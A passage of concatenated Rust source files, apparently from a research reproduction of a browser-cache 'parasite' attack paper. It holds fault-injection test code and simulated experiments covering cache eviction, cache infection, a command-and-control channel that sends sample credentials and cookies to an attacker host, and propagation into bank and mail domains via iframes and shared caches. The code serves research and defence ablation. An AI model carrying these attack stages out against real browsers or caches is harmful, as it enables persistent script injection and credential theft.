    local_journal: AtomicU64,
}

impl FaultPlan {
    /// Parses a plan spec: comma-separated `kind@sequence` entries plus an
    /// optional `seed=<n>`. Sequences are 1-based; duplicate positions in
    /// one sequence are rejected (they would be ambiguous).
    pub fn parse(spec: &str) -> Result<FaultPlan, String> {
        let mut plan = FaultPlan {
            assignment: BTreeMap::new(),
            journal: BTreeMap::new(),
            seed: 0,
            dir: None,
            local_assignment: AtomicU64::new(0),
            local_journal: AtomicU64::new(0),
        };
        for entry in spec.split(',').map(str::trim).filter(|entry| !entry.is_empty()) {
            if let Some(seed) = entry.strip_prefix("seed=") {
                plan.seed = seed
                    .parse::<u64>()
                    .map_err(|_| format!("{FAULT_PLAN_ENV}: seed must be an integer, got {seed:?}"))?;
                continue;
            }
            let Some((name, sequence)) = entry.split_once('@') else {
                return Err(format!(
                    "{FAULT_PLAN_ENV}: expected kind@sequence (e.g. crash@2), got {entry:?}"
                ));
            };
            let kind = FaultKind::parse(name).ok_or_else(|| {
                format!(
                    "{FAULT_PLAN_ENV}: unknown fault kind {name:?} \
                     (expected crash, hang, garble or torn)"
                )
            })?;
            let sequence = sequence
                .parse::<u64>()
                .ok()
                .filter(|&n| n >= 1)
                .ok_or_else(|| {
                    format!(
                        "{FAULT_PLAN_ENV}: {name}@ needs a 1-based sequence number, \
                         got {sequence:?}"
                    )
                })?;
            let map = match kind {
                FaultKind::Torn => &mut plan.journal,
                _ => &mut plan.assignment,
            };
            if map.insert(sequence, kind).is_some() {
                return Err(format!(
                    "{FAULT_PLAN_ENV}: two faults armed at the same position {entry:?}"
                ));
            }
        }
        Ok(plan)
    }

    /// Reads the plan (and the shared claim directory) from the
    /// environment. `Ok(None)` when no plan is armed; `Err` on a malformed
    /// spec — the spec names the fault a test *depends on*, so silently
    /// ignoring a typo would pass a chaos test that injected nothing.
    pub fn from_env() -> Result<Option<FaultPlan>, String> {
        let spec = match std::env::var(FAULT_PLAN_ENV) {
            Ok(spec) if !spec.trim().is_empty() => spec,
            _ => return Ok(None),
        };
        let mut plan = FaultPlan::parse(&spec)?;
        if let Ok(dir) = std::env::var(FAULT_DIR_ENV) {
            if !dir.trim().is_empty() {
                plan = plan.with_dir(PathBuf::from(dir))?;
            }
        }
        Ok(Some(plan))
    }

    /// The process-wide plan, read from the environment once — the hook the
    /// daemon's `shard_submit` path uses. A malformed spec is reported to
    /// stderr (once) and disarms the plan.
    pub fn global() -> Option<&'static FaultPlan> {
        static PLAN: OnceLock<Option<FaultPlan>> = OnceLock::new();
        PLAN.get_or_init(|| match FaultPlan::from_env() {
            Ok(plan) => plan,
            Err(message) => {
                eprintln!("warning: ignoring malformed fault plan: {message}");
                None
            }
        })
        .as_ref()
    }

    /// Routes sequence claims through `dir`, creating it if necessary, so
    /// the sequence is shared by every process pointed at the directory.
    pub fn with_dir(mut self, dir: PathBuf) -> Result<FaultPlan, String> {
        std::fs::create_dir_all(&dir).map_err(|error| {
            format!("{FAULT_DIR_ENV}: cannot create {}: {error}", dir.display())
        })?;
        self.dir = Some(dir);
        Ok(self)
    }

    /// The shared claim directory, when one is configured.
    pub fn dir(&self) -> Option<&Path> {
        self.dir.as_deref()
    }

    /// Whether any fault is armed on the assignment sequence.
    pub fn arms_assignments(&self) -> bool {
        !self.assignment.is_empty()
    }

    /// Claims the next position in the assignment sequence and returns the
    /// fault armed there, if any. Call once per shard assignment served.
    pub fn claim_assignment(&self) -> Option<FaultKind> {
        let sequence = self.next_sequence("assign", &self.local_assignment);
        self.assignment.get(&sequence).copied()
    }

    /// Claims the next position in the journal-write sequence and returns
    /// the fault armed there, if any. Call once per journal entry written.
    pub fn claim_journal(&self) -> Option<FaultKind> {
        let sequence = self.next_sequence("journal", &self.local_journal);
        self.journal.get(&sequence).copied()
    }

    /// The seeded cut point for a garbled line of `len` bytes: always a
    /// strict prefix, so a truncated JSON object can never parse whole.
    pub fn garble_point(&self, len: usize) -> usize {
        if len < 2 {
            return 0;
        }
        (super::campaign::mix_seed(self.seed, GARBLE_TAG ^ len as u64) % len as u64) as usize
    }

    /// Atomically claims the next 1-based sequence number: via `create_new`
    /// marker files in the shared directory when one is configured (the
    /// cross-process path), else via the local counter.
    fn next_sequence(&self, prefix: &str, local: &AtomicU64) -> u64 {
        let Some(dir) = &self.dir else {
            return local.fetch_add(1, Ordering::Relaxed) + 1;
        };
        let mut sequence = 1u64;
        loop {
            let claim = dir.join(format!("{prefix}-{sequence:06}"));
            match std::fs::OpenOptions::new().write(true).create_new(true).open(&claim) {
                Ok(_) => return sequence,
                Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists => {
                    sequence += 1;
                }
                // The directory vanished or is unwritable: degrade to the
                // local counter rather than spin (or worse, panic).
                Err(_) => return local.fetch_add(1, Ordering::Relaxed) + 1,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn specs_parse_into_the_two_sequences() {
        let plan = FaultPlan::parse("crash@2,hang@5,garble@1,torn@3,seed=7").expect("parses");
        assert_eq!(plan.assignment.len(), 3);
        assert_eq!(plan.assignment.get(&2), Some(&FaultKind::Crash));
        assert_eq!(plan.assignment.get(&5), Some(&FaultKind::Hang));
        assert_eq!(plan.assignment.get(&1), Some(&FaultKind::Garble));
        assert_eq!(plan.journal.get(&3), Some(&FaultKind::Torn));
        assert_eq!(plan.seed, 7);
        // Whitespace and empty entries are tolerated; an empty spec is a
        // no-fault plan.
        assert!(FaultPlan::parse(" crash@1 , ,seed=1 ").is_ok());
        assert!(FaultPlan::parse("").expect("empty is fine").assignment.is_empty());
    }

    #[test]
    fn malformed_specs_are_rejected_with_pointed_messages() {
        let cases = [
            ("crash", "kind@sequence"),
            ("fly@1", "unknown fault kind"),
            ("crash@0", "1-based"),
            ("crash@x", "1-based"),
            ("crash@1,crash@1", "same position"),
            ("crash@1,garble@1", "same position"),
            ("seed=abc", "seed"),
        ];
        for (spec, expected) in cases {
            let error = FaultPlan::parse(spec).expect_err(spec);
            assert!(error.contains(expected), "{spec:?}: got {error:?}");
        }
        // Crash and torn at the same position live in different sequences.
        assert!(FaultPlan::parse("crash@1,torn@1").is_ok());
    }

    #[test]
    fn local_claims_walk_the_sequences_independently() {
        let plan = FaultPlan::parse("crash@2,torn@1").expect("parses");
        assert_eq!(plan.claim_assignment(), None);
        assert_eq!(plan.claim_assignment(), Some(FaultKind::Crash));
        assert_eq!(plan.claim_assignment(), None);
        // The journal sequence did not move while assignments were claimed.
        assert_eq!(plan.claim_journal(), Some(FaultKind::Torn));
        assert_eq!(plan.claim_journal(), None);
    }

    #[test]
    fn directory_claims_are_shared_across_plans() {
        let dir = std::env::temp_dir().join(format!("mp-fault-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        // Two plan instances simulate two worker processes: their claims
        // interleave through the shared directory, so the sequence is
        // global — each position fires exactly once.
        let a = FaultPlan::parse("crash@2,garble@3")
            .expect("parses")
            .with_dir(dir.clone())
            .expect("dir");
        let b = FaultPlan::parse("crash@2,garble@3")
            .expect("parses")
            .with_dir(dir.clone())
            .expect("dir");
        assert_eq!(a.claim_assignment(), None); // position 1
        assert_eq!(b.claim_assignment(), Some(FaultKind::Crash)); // position 2
        assert_eq!(a.claim_assignment(), Some(FaultKind::Garble)); // position 3
        assert_eq!(b.claim_assignment(), None); // position 4
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn garble_points_are_deterministic_strict_prefixes() {
        let plan = FaultPlan::parse("seed=42").expect("parses");
        let again = FaultPlan::parse("seed=42").expect("parses");
        for len in [0usize, 1, 2, 17, 1024, 65536] {
            let cut = plan.garble_point(len);
            assert!(len < 2 || cut < len, "cut {cut} must be a strict prefix of {len}");
            assert_eq!(cut, again.garble_point(len), "same seed, same cut");
        }
        // A different seed moves the cut for at least some lengths.
        let other = FaultPlan::parse("seed=43").expect("parses");
        assert!((2usize..200).any(|len| plan.garble_point(len) != other.garble_point(len)));
    }
}
