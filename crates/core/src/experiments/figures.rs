//! Figure 1–5 and §VIII ablation runners and their result types.

use super::{ExperimentError, RunConfig, RunCtx, MASTER_HOST};
use crate::cnc::{downstream_goodput_bytes_per_sec, CncServer, Command};
use crate::defense::{ablation_matrix, AblationRow, AttackStage};
use crate::eviction::{junk_origin, EvictionAttack};
use crate::json::{Json, ToJson};
use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::transport::{Internet, StaticOrigin};
use mp_httpsim::url::Url;
use mp_webgen::{scan, Crawler, PersistencySeries, PolicyScan, Population, PopulationConfig};
use serde::{Deserialize, Serialize};

// ---------------------------------------------------------------------------
// Figures 1, 2 — message flows
// ---------------------------------------------------------------------------

/// A rendered message-flow trace (Figures 1, 2 and 4 are sequence diagrams).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlowTrace {
    /// Human-readable description of the flow.
    pub title: String,
    /// One line per step.
    pub steps: Vec<String>,
}

impl FlowTrace {
    /// Renders the flow.
    pub fn render(&self) -> String {
        let mut out = format!("{}\n", self.title);
        for (index, step) in self.steps.iter().enumerate() {
            out.push_str(&format!("  {:>2}. {}\n", index + 1, step));
        }
        out
    }
}

impl ToJson for FlowTrace {
    fn to_json(&self) -> Json {
        Json::obj([
            ("title", self.title.to_json()),
            ("steps", self.steps.to_json()),
        ])
    }
}

/// Regenerates the Figure 1 cache-eviction flow from a browser-level run.
pub(super) fn fig1_eviction_flow(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<FlowTrace, ExperimentError> {
    let mut victim_site = StaticOrigin::new("any.com");
    victim_site.put_text("/index.html", ResourceKind::Html, "<html><body>any</body></html>", "no-cache");
    let mut popular = StaticOrigin::new("popular.com");
    popular.put_text("/img.png", ResourceKind::JavaScript, "img", "public, max-age=86400");
    let mut net = Internet::new();
    net.register_origin(victim_site);
    net.register_origin(popular);
    net.register_origin(junk_origin(2_048, 16));

    let profile = BrowserProfile {
        cache_capacity_bytes: 16_000,
        ..BrowserProfile::chrome()
    };
    let mut browser = Browser::new(profile, Box::new(net));

    let mut steps = Vec::new();
    steps.push("victim -> any.com: GET / (legitimate)".to_string());
    browser.visit(&Url::parse("http://any.com/index.html").expect("static url"));
    steps.push(format!(
        "attacker -> victim: injected inline script `{}` [ATTACK]",
        crate::eviction::eviction_inline_script(16)
    ));
    let popular_url = Url::parse("http://popular.com/img.png").expect("static url");
    browser.fetch(&popular_url, "popular.com");
    let attack = EvictionAttack::new(2_048, 16);
    let report = attack.run(&mut browser, std::slice::from_ref(&popular_url));
    for index in 0..report.junk_objects_loaded {
        steps.push(format!("victim -> attacker.com: GET /junk{index:04}.jpg [ATTACK]"));
    }
    let refetch = browser.fetch(&popular_url, "popular.com");
    steps.push(format!(
        "victim -> popular.com: GET /img.png ({}; cache was flushed)",
        match refetch.source {
            FetchSource::Network => "fresh network fetch",
            other => {
                return Ok(FlowTrace { title: "Figure 1".into(), steps: vec![format!("unexpected source {other:?}")] })
            }
        }
    ));
    Ok(FlowTrace {
        title: "Figure 1 - cache eviction message flow".to_string(),
        steps,
    })
}

/// Regenerates the Figure 2 cache-infection flow from a packet-level run
/// (the same race world Table II evaluates, read through its packet trace).
/// The flow needs the actual events, so this experiment always records a full
/// trace regardless of `config.trace_mode`.
pub(super) fn fig2_infection_flow(
    config: &RunConfig,
    ctx: &RunCtx,
) -> Result<FlowTrace, ExperimentError> {
    let shared = ctx.budget_for(config);
    let race = super::tables::run_race_simulation(
        config.seed,
        300,
        40_000,
        config.event_budget,
        mp_netsim::capture::TraceMode::Full,
        shared.as_ref(),
    )?;
    let trace = race.sim.trace();
    let mut steps: Vec<String> = trace
        .with_payload()
        .map(|event| trace.describe(event))
        .collect();

    // Step 3/4 of the figure: the parasite reloads the original object with a
    // cache-busting query so the page keeps working.
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    let busted = target.with_query(Some("t=500198"));
    steps.push(format!("victim -> somesite.com: GET {} (parasite reloads original)", busted));
    // Step 5: propagation requests to further popular domains.
    for host in ["top1.com", "top2.com", "top3.com"] {
        steps.push(format!("victim -> {host}: GET /persistent.js (propagation) [ATTACK]"));
    }

    Ok(FlowTrace {
        title: "Figure 2 - cache infection message flow (packet-level race)".to_string(),
        steps,
    })
}

// ---------------------------------------------------------------------------
// Figure 3 — persistency measurement
// ---------------------------------------------------------------------------

/// Result of the Figure 3 experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig3Result {
    /// The measured series.
    pub series: PersistencySeries,
}

impl Fig3Result {
    /// Renders selected points of the curves.
    pub fn render(&self) -> String {
        let mut out = String::from("Figure 3 - object persistency over the measurement period\n");
        out.push_str("day | any .js % | name-persistent % | hash-persistent %\n");
        for &day in &[1u32, 5, 10, 25, 50, 75, 100] {
            if let Some(point) = self.series.at(day) {
                out.push_str(&format!(
                    "{:>3} | {:>9.1} | {:>17.1} | {:>17.1}\n",
                    day, point.any_js, point.name_persistent, point.hash_persistent
                ));
            }
        }
        out
    }
}

impl ToJson for PersistencySeries {
    fn to_json(&self) -> Json {
        Json::obj([
            ("days", self.days.to_json()),
            ("any_js", self.any_js.to_json()),
            ("name_persistent", self.name_persistent.to_json()),
            ("hash_persistent", self.hash_persistent.to_json()),
        ])
    }
}

impl ToJson for Fig3Result {
    fn to_json(&self) -> Json {
        Json::obj([("series", self.series.to_json())])
    }
}

/// Runs the Figure 3 persistency crawl over a generated population of
/// `config.crawl_sites` sites for `config.days` days.
pub(super) fn fig3_persistency(
    config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Fig3Result, ExperimentError> {
    let population = Population::generate(PopulationConfig::small(config.crawl_sites, config.seed));
    let series = Crawler::new(population).run(config.days);
    Ok(Fig3Result { series })
}

// ---------------------------------------------------------------------------
// Figure 4 — C&C channel
// ---------------------------------------------------------------------------

/// Result of the Figure 4 experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig4Result {
    /// (parallel requests, modelled goodput bytes/s).
    pub goodput_curve: Vec<(u32, f64)>,
    /// Bytes of command data delivered end-to-end in the functional check.
    pub command_bytes_delivered: usize,
    /// Bytes exfiltrated upstream in the functional check.
    pub upstream_bytes_delivered: usize,
}

impl Fig4Result {
    /// Renders the channel characterisation.
    pub fn render(&self) -> String {
        let mut out = String::from("Figure 4 - C&C channel characterisation\n");
        out.push_str("parallel image requests | downstream goodput (KB/s)\n");
        for (parallel, goodput) in &self.goodput_curve {
            out.push_str(&format!("{:>23} | {:>10.1}\n", parallel, goodput / 1000.0));
        }
        out.push_str(&format!(
            "functional check: {} command bytes down, {} exfil bytes up\n",
            self.command_bytes_delivered, self.upstream_bytes_delivered
        ));
        out
    }
}

impl ToJson for Fig4Result {
    fn to_json(&self) -> Json {
        Json::obj([
            (
                "goodput_curve",
                Json::Arr(
                    self.goodput_curve
                        .iter()
                        .map(|(parallel, goodput)| {
                            Json::obj([
                                ("parallel", parallel.to_json()),
                                ("bytes_per_sec", goodput.to_json()),
                            ])
                        })
                        .collect(),
                ),
            ),
            ("command_bytes_delivered", self.command_bytes_delivered.to_json()),
            ("upstream_bytes_delivered", self.upstream_bytes_delivered.to_json()),
        ])
    }
}

/// Runs the Figure 4 C&C channel experiment.
pub(super) fn fig4_cnc_channel(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Fig4Result, ExperimentError> {
    let goodput_curve = [1u32, 5, 10, 25, 50]
        .into_iter()
        .map(|parallel| (parallel, downstream_goodput_bytes_per_sec(parallel, 1.0)))
        .collect();

    // Functional end-to-end check: a command travels down the image channel,
    // stolen data travels back up the URL channel.
    let mut server = CncServer::new(MASTER_HOST);
    let command = Command::ExecuteModule("login-data".to_string());
    let command_bytes = command.to_bytes();
    server.queue_command(command);
    let images = server.serve_next_command();
    // The parasite only sees each image's dimensions (SOP hides the rest).
    let dims: Vec<crate::cnc::ImageDimensions> = images
        .iter()
        .filter_map(|r| crate::cnc::parse_svg_dimensions(&r.body.as_text()))
        .collect();
    let decoded = crate::cnc::decode_dimensions(&dims).unwrap_or_default();

    let exfil = b"user=alice&pass=correct-horse&cookie=SID:abc123";
    let url = crate::cnc::encode_upstream(MASTER_HOST, "campaign-0", exfil);
    server.receive_upstream(&url);

    Ok(Fig4Result {
        goodput_curve,
        command_bytes_delivered: if decoded == command_bytes { command_bytes.len() } else { 0 },
        upstream_bytes_delivered: server.exfiltrated().first().map(|r| r.data.len()).unwrap_or(0),
    })
}

// ---------------------------------------------------------------------------
// Figure 5 — CSP / HSTS / TLS measurement
// ---------------------------------------------------------------------------

/// Result of the Figure 5 experiment (plus the in-text adoption numbers).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig5Result {
    /// The full policy scan.
    pub scan: PolicyScan,
}

impl Fig5Result {
    /// Renders the statistics the paper reports.
    pub fn render(&self) -> String {
        let s = &self.scan;
        format!(
            "Figure 5 / in-text measurements ({} sites)\n\
             HTTP-only sites:            {:>6.2} %  (paper: 21 %)\n\
             vulnerable SSL versions:    {:>6.2} %  (paper: ~7 %)\n\
             responders without HSTS:    {:>6.2} %  (paper: 67.92 %)\n\
             preloaded responders:       {:>6}     (paper: 545 of 13419)\n\
             strippable to HTTP:         {:>6.2} %  (paper: up to 96.59 %)\n\
             pages supplying CSP:        {:>6.2} %  (paper: ~4.7 %)\n\
             pages with CSP rules:       {:>6.2} %  (paper: 4.33 %)\n\
             deprecated CSP headers:     {:>6.2} %  (paper: 15.3 %)\n\
             connect-src uses:           {:>6}     (paper: 160)\n\
             connect-src wildcards:      {:>6}     (paper: 17)\n\
             sites embedding analytics:  {:>6.2} %  (paper: 63 %)\n",
            s.total,
            s.tls.http_only_pct(),
            s.tls.vulnerable_ssl_pct(),
            s.hsts.without_hsts_pct(),
            s.hsts.preloaded,
            s.hsts.strippable_pct(),
            s.csp.supplied_pct(),
            s.csp.with_rules_pct(),
            s.csp.deprecated_pct(),
            s.csp.connect_src_uses,
            s.csp.connect_src_wildcards,
            s.google_analytics_pct(),
        )
    }
}

impl ToJson for PolicyScan {
    fn to_json(&self) -> Json {
        Json::obj([
            ("total", self.total.to_json()),
            (
                "tls",
                Json::obj([
                    ("total", self.tls.total.to_json()),
                    ("http_only", self.tls.http_only.to_json()),
                    ("vulnerable_ssl", self.tls.vulnerable_ssl.to_json()),
                    ("transport_injectable", self.tls.transport_injectable.to_json()),
                    ("http_only_pct", self.tls.http_only_pct().to_json()),
                    ("vulnerable_ssl_pct", self.tls.vulnerable_ssl_pct().to_json()),
                ]),
            ),
            (
                "hsts",
                Json::obj([
                    ("responders", self.hsts.responders.to_json()),
                    ("without_hsts", self.hsts.without_hsts.to_json()),
                    ("preloaded", self.hsts.preloaded.to_json()),
                    ("without_hsts_pct", self.hsts.without_hsts_pct().to_json()),
                    ("strippable_pct", self.hsts.strippable_pct().to_json()),
                ]),
            ),
            (
                "csp",
                Json::obj([
                    ("total", self.csp.total.to_json()),
                    ("supplied", self.csp.supplied.to_json()),
                    ("with_rules", self.csp.with_rules.to_json()),
                    ("standard_header", self.csp.standard_header.to_json()),
                    ("x_csp_header", self.csp.x_csp_header.to_json()),
                    ("x_webkit_header", self.csp.x_webkit_header.to_json()),
                    ("connect_src_uses", self.csp.connect_src_uses.to_json()),
                    ("connect_src_wildcards", self.csp.connect_src_wildcards.to_json()),
                    ("supplied_pct", self.csp.supplied_pct().to_json()),
                    ("with_rules_pct", self.csp.with_rules_pct().to_json()),
                    ("deprecated_pct", self.csp.deprecated_pct().to_json()),
                ]),
            ),
            ("google_analytics", self.google_analytics.to_json()),
            ("google_analytics_pct", self.google_analytics_pct().to_json()),
        ])
    }
}

impl ToJson for Fig5Result {
    fn to_json(&self) -> Json {
        Json::obj([("scan", self.scan.to_json())])
    }
}

/// Runs the Figure 5 policy scan over a generated population of
/// `config.sites` sites.
pub(super) fn fig5_csp_stats(
    config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Fig5Result, ExperimentError> {
    let population = Population::generate(PopulationConfig::small(config.sites, config.seed));
    Ok(Fig5Result {
        scan: scan(&population),
    })
}

// ---------------------------------------------------------------------------
// §VIII — defence ablation
// ---------------------------------------------------------------------------

/// Result of the defence ablation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AblationResult {
    /// One row per defence.
    pub rows: Vec<AblationRow>,
}

impl AblationResult {
    /// Renders the defence / stage matrix.
    pub fn render(&self) -> String {
        let mut out = String::from("Countermeasure ablation (which attack stages still succeed)\n");
        out.push_str(&format!("{:<42}", "defence"));
        for stage in AttackStage::ALL {
            out.push_str(&format!(" | {stage:<26}"));
        }
        out.push('\n');
        for row in &self.rows {
            out.push_str(&format!("{:<42}", row.defense.to_string()));
            for stage in AttackStage::ALL {
                let survives = row.surviving_stages.contains(&stage);
                out.push_str(&format!(" | {:<26}", if survives { "survives" } else { "blocked" }));
            }
            out.push('\n');
        }
        out
    }
}

impl ToJson for AblationRow {
    fn to_json(&self) -> Json {
        Json::obj([
            ("defense", self.defense.to_string().to_json()),
            (
                "surviving_stages",
                Json::Arr(
                    self.surviving_stages
                        .iter()
                        .map(|stage| Json::Str(stage.to_string()))
                        .collect(),
                ),
            ),
        ])
    }
}

impl ToJson for AblationResult {
    fn to_json(&self) -> Json {
        Json::obj([("rows", self.rows.to_json())])
    }
}

/// Runs the §VIII defence ablation.
pub(super) fn ablation_defenses(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<AblationResult, ExperimentError> {
    Ok(AblationResult {
        rows: ablation_matrix(),
    })
}
