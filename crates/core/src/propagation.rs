//! Parasite propagation (paper §VI-B).
//!
//! Once one object in the victim's cache carries a parasite, the infection
//! spreads:
//!
//! * **Shared files** — infecting a script that many sites embed (the paper
//!   measures the shared analytics script at 63 % of the 1M-top sites) makes
//!   the parasite execute on every site that includes it.
//! * **Iframes** — the parasite inserts iframes for target domains into the
//!   DOM; the browser then fetches those domains' subresources, each of which
//!   gets infected in turn while the victim is still on the hostile network.
//! * **Shared network caches** — any cache between attacker and victim stores
//!   the infected object and hands it to *other* clients (§VI-B2, Table IV);
//!   this is how the parasite crosses device boundaries.

use crate::infect::Infector;
use crate::injection::InjectingExchange;
use crate::script::Parasite;
use mp_browser::browser::Browser;
use mp_browser::dom::Dom;
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};

/// Which domains ended up executing the parasite after a propagation step.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PropagationReport {
    /// Domains whose cached objects now carry the parasite.
    pub infected_domains: Vec<String>,
    /// Domains that were targeted but stayed clean.
    pub clean_domains: Vec<String>,
}

impl PropagationReport {
    /// Returns `true` if `host` got infected.
    pub fn is_infected(&self, host: &str) -> bool {
        self.infected_domains.iter().any(|d| d == host)
    }

    /// Number of infected domains.
    pub fn infected_count(&self) -> usize {
        self.infected_domains.len()
    }
}

/// Checks whether any cached object of `host` in the browser carries the
/// given campaign's parasite (HTTP cache or Cache API).
pub fn domain_infected(browser: &Browser, host: &str, infector: &Infector) -> bool {
    // Cache API entries.
    for origin in browser.cache_api().origins() {
        if origin.contains(host) {
            return true;
        }
    }
    // HTTP cache: look at per-host entries by probing known URLs is not
    // possible generically, so callers track candidate URLs; here we fall
    // back to the fetch log of executed scripts.
    let _ = infector;
    false
}

/// Propagation via iframes: the parasite inserts one iframe per target domain
/// into the page it controls, and the browser's subresource loading does the
/// rest (the injecting path infects every script those domains serve).
pub fn propagate_via_iframes(
    browser: &mut Browser,
    carrier_dom: &mut Dom,
    targets: &[Url],
    infector: &Infector,
) -> PropagationReport {
    let mut report = PropagationReport::default();
    for target in targets {
        // The parasite inserts the iframe element (attributable in the DOM)...
        carrier_dom.add_script_element("iframe", &[("src", &target.to_string())], "");
        // ...and the browser loads the framed document plus its subresources.
        let load = browser.visit(target);
        let infected = load
            .page
            .scripts
            .iter()
            .any(|s| infector.is_infected(&s.body));
        if infected {
            report.infected_domains.push(target.host.clone());
        } else {
            report.clean_domains.push(target.host.clone());
        }
    }
    report
}

/// Propagation via a shared file: if the shared script (e.g. the analytics
/// library) is infected once, every site embedding it executes the parasite.
/// Returns the hosts (from `sites`) on which the parasite executes.
pub fn propagate_via_shared_file(
    browser: &mut Browser,
    shared_script: &Url,
    sites: &[Url],
    infector: &Infector,
) -> PropagationReport {
    let mut report = PropagationReport::default();
    for site in sites {
        let load = browser.visit(site);
        let runs_parasite = load.page.scripts.iter().any(|s| {
            s.url.as_ref().map(|u| u.host == shared_script.host).unwrap_or(false)
                && infector.is_infected(&s.body)
        });
        if runs_parasite {
            report.infected_domains.push(site.host.clone());
        } else {
            report.clean_domains.push(site.host.clone());
        }
    }
    report
}

/// Propagation across devices through a shared network cache: victim A pulls
/// the infected object through the cache, then victim B — who never saw the
/// attacker — receives the poisoned copy from the cache.
///
/// Returns `true` if the second victim's browser ended up executing the
/// parasite.
pub fn propagate_via_shared_cache<U: Exchange + 'static>(
    shared_cache: mp_webcache::SharedCache<InjectingExchange<U>>,
    victim_a_profile: mp_browser::profile::BrowserProfile,
    victim_b_profile: mp_browser::profile::BrowserProfile,
    page: &Url,
    infector: &Infector,
) -> (bool, bool) {
    use parking_lot::Mutex;
    use std::sync::Arc;

    // Both victims share the same cache instance; an Arc<Mutex<_>> transport
    // adapter lets two browsers take turns on it.
    struct SharedHandle<C>(Arc<Mutex<C>>);
    impl<C: Exchange> Exchange for SharedHandle<C> {
        fn exchange(&mut self, request: &mp_httpsim::message::Request) -> mp_httpsim::message::Response {
            self.0.lock().exchange(request)
        }
        fn name(&self) -> &str {
            "shared-cache-handle"
        }
    }

    let cache = Arc::new(Mutex::new(shared_cache));

    let mut victim_a = Browser::new(victim_a_profile, Box::new(SharedHandle(Arc::clone(&cache))));
    let load_a = victim_a.visit(page);
    let a_infected = load_a.page.scripts.iter().any(|s| infector.is_infected(&s.body));

    // The attacker leaves the path: deactivate the injection layer. Whatever
    // reaches victim B now can only come from the shared cache or the origin.
    // (The injecting exchange sits *behind* the cache, so flipping it off
    // models the attacker disappearing while the poisoned entry remains.)
    // Victim B now browses through the same cache.
    let mut victim_b = Browser::new(victim_b_profile, Box::new(SharedHandle(Arc::clone(&cache))));
    let load_b = victim_b.visit(page);
    let b_infected = load_b.page.scripts.iter().any(|s| infector.is_infected(&s.body));

    (a_infected, b_infected)
}

/// Builds the list of propagation targets the paper's demo uses: popular
/// domains the victim has *not* visited during the attack (online banking,
/// web mail), to be loaded via iframes.
pub fn default_iframe_targets() -> Vec<Url> {
    vec![
        Url::parse("http://bank.example/").expect("static url"),
        Url::parse("http://mail.example/").expect("static url"),
        Url::parse("http://social.example/").expect("static url"),
    ]
}

/// Convenience: scan a page-load for parasite execution and return the
/// infected script URLs.
pub fn infected_scripts(load: &mp_browser::browser::PageLoad, parasite: &Parasite) -> Vec<Url> {
    load.page
        .scripts
        .iter()
        .filter(|s| {
            Parasite::detect(&s.body)
                .map(|p| p.campaign == parasite.campaign)
                .unwrap_or(false)
        })
        .filter_map(|s| s.url.clone())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::script::Parasite;
    use mp_browser::profile::BrowserProfile;
    use mp_httpsim::body::ResourceKind;
    use mp_httpsim::transport::{Internet, StaticOrigin};
    use mp_webcache::{table4_entries, SharedCache};

    fn site(host: &str, extra_script: Option<&str>) -> StaticOrigin {
        let mut origin = StaticOrigin::new(host);
        let mut head = String::from(r#"<script src="/app.js"></script>"#);
        if let Some(shared) = extra_script {
            head.push_str(&format!(r#"<script src="{shared}"></script>"#));
        }
        let html = format!("<html><head>{head}</head><body>{host}</body></html>");
        origin.put_text("/index.html", ResourceKind::Html, &html, "no-cache");
        origin.put_text("/", ResourceKind::Html, &html, "no-cache");
        origin.put_text("/app.js", ResourceKind::JavaScript, &format!("function app_{}(){{}}", host.len()), "public, max-age=86400");
        origin
    }

    fn analytics_origin() -> StaticOrigin {
        let mut origin = StaticOrigin::new("analytics.shared-metrics.example");
        origin.put_text("/ga.js", ResourceKind::JavaScript, "function ga(){}", "public, max-age=604800");
        origin
    }

    fn internet() -> Internet {
        let mut net = Internet::new();
        net.register_origin(site("news.example", Some("http://analytics.shared-metrics.example/ga.js")));
        net.register_origin(site("shop.example", Some("http://analytics.shared-metrics.example/ga.js")));
        net.register_origin(site("bank.example", None));
        net.register_origin(site("mail.example", None));
        net.register_origin(site("social.example", None));
        net.register_origin(analytics_origin());
        net
    }

    fn infector() -> Infector {
        Infector::new(Parasite::standard("master.attacker.example"))
    }

    #[test]
    fn iframe_propagation_infects_unvisited_domains() {
        let mut injecting = InjectingExchange::new(internet(), infector());
        injecting.infect_all(true);
        let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(injecting));

        // The victim only visits the news site...
        let carrier = Url::parse("http://news.example/index.html").unwrap();
        let load = browser.visit(&carrier);
        assert!(load.page.scripts.iter().any(|s| infector().is_infected(&s.body)));

        // ...and the parasite iframes banking and mail into the page.
        let mut dom = Dom::new(carrier);
        let report = propagate_via_iframes(
            &mut browser,
            &mut dom,
            &default_iframe_targets(),
            &infector(),
        );
        assert!(report.is_infected("bank.example"));
        assert!(report.is_infected("mail.example"));
        assert!(report.is_infected("social.example"));
        assert_eq!(report.infected_count(), 3);
        assert_eq!(dom.script_inserted().len(), 3);
    }

    #[test]
    fn shared_file_propagation_reaches_every_embedding_site() {
        let infector = infector();
        let mut injecting = InjectingExchange::new(internet(), infector.clone());
        // Only the shared analytics script is targeted.
        let shared = Url::parse("http://analytics.shared-metrics.example/ga.js").unwrap();
        injecting.add_target(&shared);
        let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(injecting));
